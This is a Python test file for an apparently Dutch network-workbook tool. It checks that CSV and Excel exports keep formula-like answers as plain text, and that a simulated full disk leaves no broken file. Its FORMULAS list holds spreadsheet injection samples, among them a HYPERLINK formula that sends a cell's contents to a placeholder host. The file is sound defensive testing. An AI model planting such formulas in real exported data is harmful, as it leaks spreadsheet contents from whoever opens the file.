"""Export and report files (issue 16, points 17-18): answers that a spreadsheet would run as
formulas, and a disk that fills up while a file is written."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from netwerk_widgets import Store
from netwerk_widgets.demo import load_demo
from netwerk_widgets.export import export_answers
from netwerk_widgets.store import Answer

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?d="&A2,"Klik")',
    "=2+3",
    "+31 6 1234",
    "-1",
    "@SUM(A1:A3)",
    "\tverstopt",
]


def test_csv_cells_that_look_like_formulas_stay_text(store: Store, tmp_path: Path) -> None:
    store.create_session("Formules", template="netwerkwerkboek", code="FORM")
    person = store.join("FORM", "=1+1")
    answers = [
        Answer("werkblad", "uitdagingen", text, f"r{i}", "uitdaging")
        for i, text in enumerate([*FORMULAS, "gewoon"])
    ]
    store.append(person, answers)
    path = export_answers(tmp_path / "a.csv", "FORM", store=store)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert sorted(values) == sorted(["'" + text for text in FORMULAS] + ["gewoon"])
    xlsx = export_answers(tmp_path / "a.xlsx", "FORM", store=store)
    sheet = load_workbook(xlsx)["antwoorden"]
    cells = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted([*FORMULAS, "gewoon"])  # as typed
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula


FULL_DISK = """
import resource, signal, sys
from pathlib import Path
from netwerk_widgets import Store, NetwerkError
from netwerk_widgets.export import export_answers, export_network
from netwerk_widgets.report import write_report

url, target = sys.argv[1], Path(sys.argv[2])
with Store(url) as store:
    if target.suffix == ".html":  # results computed and cached first: the store is larger
        write_report(target.with_name("warm.html"), "DEMO", store=store)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4000, 4000))
    try:
        if target.suffix == ".graphml":
            export_network(target, "DEMO", store=store)
        elif target.suffix == ".html":
            write_report(target, "DEMO", store=store)
        else:
            export_answers(target, "DEMO", store=store)
    except NetwerkError as exc:
        print(exc)
        sys.exit(2)
print("written")
"""


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet", ".graphml", ".html"])
def test_a_full_disk_leaves_no_broken_file_and_says_why(
    sqlite_url: str, tmp_path: Path, suffix: str
) -> None:
    with Store(sqlite_url) as store:
        load_demo(store)
    folder = tmp_path / "uit"
    folder.mkdir()
    target = folder / f"demo{suffix}"
    target.write_text("het vorige bestand", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-c", FULL_DISK, sqlite_url, str(target)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert f"Kan {target} niet schrijven: " in result.stdout
    assert "geen (half) bestand achtergelaten" in result.stdout
    assert target.read_text(encoding="utf-8") == "het vorige bestand"
    left = sorted(p.name for p in folder.iterdir() if p.name != "warm.html")
    assert left == ["demo" + suffix]
